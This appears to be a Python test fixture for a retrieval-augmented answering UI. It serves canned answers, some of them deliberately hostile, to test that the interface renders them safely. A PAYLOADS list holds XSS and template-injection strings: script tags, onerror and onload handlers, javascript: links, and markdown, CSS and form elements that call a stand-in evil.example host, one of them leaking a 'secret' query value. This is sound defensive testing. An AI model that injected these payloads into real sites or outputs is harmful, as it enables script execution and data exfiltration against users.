"""A pipeline that knows a few answers by heart, for what the real one cannot be made to say."""

import time
from collections.abc import Generator, Sequence
from dataclasses import dataclass
from pathlib import Path

from index.document import Document
from index.errors import QuestionError
from index.load import document_of
from rag.answer import Answer, Answered, Citation, Claim, Event, Hit, Language, Searched, Verdict
from rag.fluent import Writer

SEED = Path(__file__).parents[2] / "seeds" / "000_279188b026f1322e.txt"

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "![leak](http://evil.example/leak.png?q=secret)",
    "[click](javascript:window.pwned=1)",
    '"><svg onload=window.pwned=1>',
    "</article></div><iframe src=http://evil.example/></iframe>",
    "${window.pwned=1} `${window.pwned=1}`",
    "{{constructor.constructor 'window.pwned=1' ()}} {{{value}}}",
    "<style>*{background:url(http://evil.example/a.png)}</style>",
    "<form action=http://evil.example/><input name=q><button>go</button></form>",
    "<video poster=http://evil.example/p.png><source src=http://evil.example/v.mp4></video>",
    "__i18n__{'key':'x'} $$\\href{javascript:alert(1)}{x}$$",
)


@dataclass(frozen=True, slots=True)
class Info:
    id: str
    title: str
    source: str
    passages: int


class Shelf:
    def __init__(self, documents: list[Document]) -> None:
        self._documents = {d.id: d for d in documents}

    def documents(self) -> list[Info]:
        return [Info(d.id, d.title, d.source, len(d.blocks)) for d in self._documents.values()]

    def document(self, id: str, /) -> Document:
        return self._documents[id]


class Canned:
    """Answers by what the question contains; `slow` seconds lie between the steps."""

    def __init__(self, *, slow: float = 0.0) -> None:
        article = document_of(SEED.read_text(encoding="utf-8"), source=f"seeds/{SEED.name}")
        hostile = document_of("\n\n".join(("惡意 " + PAYLOADS[1], *PAYLOADS)), source="x/<b onclick=1>.txt")
        self.library = Shelf([article, hostile])
        self._article, self._hostile, self._slow = article, hostile, slow

    writer: Writer | None = None
    model: str | None = None
    sends_to: str | None = None

    def stream(
        self, question: str, /, *, language: Language | None = None, history: Sequence[Answer] = ()
    ) -> Generator[Event, None, None]:
        if len(question) > 2000:
            raise QuestionError("too_long", "A question has 2,000 characters at most.")
        if "boom" in question:
            raise RuntimeError("secret detail")
        answer = self._answer(question)
        time.sleep(self._slow)
        yield Searched(answer.passages)
        time.sleep(self._slow)
        yield Answered(answer)

    def _answer(self, question: str) -> Answer:
        if "evil" in question:
            return self._evil(question)
        first = self._cite(1, self._article, "報告數據顯示", "。", "211.9億元")
        second = self._cite(2, self._article, "年度研發投入達到", ",", "211.9億元")
        third = self._cite(3, self._article, "首次開展「範圍三」", ";")
        hits = tuple(self._hit(c, 0.9 - c.marker / 10) for c in (first, second, third))
        if "2021" in question:
            return Answer(
                question,
                "en",
                "",
                None,
                True,
                (),
                (first, second),
                hits,
                "reader",
                reason="year",
                missing="2021",
            )
        if "long" in question:
            claims = tuple(
                Claim(
                    f"{n}. The report says a good deal about this, at some length, and in words of its own. "
                    * 2
                    + f"[{c.marker}]",
                    verdict,
                    (c.marker,),
                )
                for n, (c, verdict) in enumerate(
                    (
                        (first, Verdict.SUPPORTED),
                        (second, Verdict.FIGURE_MISMATCH),
                        (third, Verdict.UNSUPPORTED),
                    ),
                    1,
                )
            )
            return Answer(question, "en", "", None, False, claims, (first, second, third), hits, "reader")
        hans = "研发" in question
        hant = not hans and "研發" in question
        spoken: Language = "zh-Hans" if hans else "zh-Hant" if hant else "en"
        short = {"zh-Hans": "211.9亿元", "zh-Hant": "211.9億元", "en": "RMB 21.19 billion"}[spoken]
        claim = Claim(short, Verdict.SUPPORTED, (1, 2))
        text = f"**{short}** [1][2]\n\n> {first.quote}"
        return Answer(
            question, spoken, text, short, False, (claim,), (first, second), hits, "reader", span="211.9億元"
        )

    def _evil(self, question: str) -> Answer:
        document = self._hostile
        whole = Citation(
            1, document.id, document.source, document.title, None, 0, len(document.text), document.text, 2, 40
        )
        claims = tuple(Claim(p, Verdict.SUPPORTED, (1,)) for p in PAYLOADS)
        hit = Hit(
            document.id,
            document.source,
            document.title,
            0,
            len(document.text),
            document.text,
            0.5,
            PAYLOADS[0],
        )
        return Answer(
            question, "en", "", PAYLOADS[1], False, claims, (whole,), (hit,), "reader", span=PAYLOADS[0]
        )

    def _cite(self, marker: int, document: Document, begin: str, end: str, span: str = "") -> Citation:
        start = document.text.index(begin)
        stop = document.text.index(end, start) + 1
        at = document.text.index(span, start) if span else None
        return Citation(
            marker,
            document.id,
            document.source,
            document.title,
            page=None,
            start=start,
            end=stop,
            quote=document.text[start:stop],
            answer_start=at,
            answer_end=at + len(span) if at is not None else None,
        )

    def _hit(self, citation: Citation, score: float) -> Hit:
        block = next(b for b in self._article.blocks if b.start <= citation.start < b.end)
        text = self._article.text[block.start : block.end]
        return Hit(
            citation.document,
            citation.source,
            citation.title,
            block.start,
            block.end,
            text,
            score,
            "科技投入再創新高",
        )


if __name__ == "__main__":
    import sys

    from ui.server import serve

    def tell(url: str) -> None:
        sys.stdout.write(f"{url}\n")
        sys.stdout.flush()

    login = Path(sys.argv[2]) if len(sys.argv) > 2 else None
    serve(Canned(slow=float(sys.argv[1])), port=0, auth=login, on_ready=tell)
